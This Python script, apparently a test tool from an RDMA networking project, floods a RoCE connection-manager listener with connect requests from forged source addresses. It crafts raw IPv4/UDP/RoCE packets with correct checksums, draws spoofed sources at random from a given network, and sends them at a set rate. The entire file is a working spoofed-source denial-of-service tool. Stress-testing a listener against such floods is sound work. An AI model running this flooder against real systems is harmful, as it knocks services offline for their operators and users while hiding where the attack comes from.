# SPDX-License-Identifier: BSD-2-Clause
"""Floods a listener with connect requests (REQ) whose source address is forged; nobody answers what comes back. It needs raw
sockets, as in a user namespace. cm_flood.py TARGET PORT PRIVATE SOURCE PACKETS_PER_SECOND

PRIVATE is the private data of the requests, in hexadecimal. SOURCE is an address, or a network such as 10.0.0.0/8, from which
each request takes a random one. Prints "flooding" when it begins, and at SIGTERM how many packets it has sent."""
import ipaddress
import random
import signal
import socket
import struct
import sys
import time

import cm_raw
import roce_pcap

BATCH_S = 0.005  # so often it wakes up


def packet(source, target, number, port, private):
    """An IPv4 packet with a REQ from `source`. Its identification is not 0, so the kernel keeps it."""
    message = cm_raw.req(number, cm_raw.TCP, port, source, target, cm_raw.ip_header(source, target) + private)
    roce = struct.pack('>BBHIIII', 0x64, 0, 0xffff, 1, 0, cm_raw.GSI_QKEY, 1) + message
    length = 20 + 8 + len(roce) + 4
    ip = struct.pack('>BBHHHBBH4s4s', 0x45, 0, length, random.randrange(1, 65536), 0x4000, 64, 17, 0,
                     socket.inet_aton(source), socket.inet_aton(target))
    udp = struct.pack('>HHHH', roce_pcap.ROCE_PORT, roce_pcap.ROCE_PORT, length - 20, 0)
    return ip + udp + roce + struct.pack('<I', roce_pcap.icrc(ip, udp, roce))


def main(target, port, private, source, rate):
    network = ipaddress.ip_network(source)
    stopped = []
    signal.signal(signal.SIGTERM, lambda *_: stopped.append(True))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def forged():
        address = network[random.randrange(network.num_addresses)]
        return packet(str(address), target, random.randrange(1, 1 << 23), int(port), bytes.fromhex(private))
    print('flooding', flush=True)
    start, sent, refused = time.monotonic(), 0, 0
    while not stopped:
        due = int((time.monotonic() - start) * int(rate))
        for _ in range(due - sent):
            try:
                raw.sendto(forged(), (target, 0))
            except OSError:  # the kernel's queue is full
                refused += 1
            sent += 1
        time.sleep(BATCH_S)
    print(f'{sent} packets in {time.monotonic() - start:.1f} s, {refused} refused by the kernel', flush=True)


if __name__ == '__main__':
    main(*sys.argv[1:])
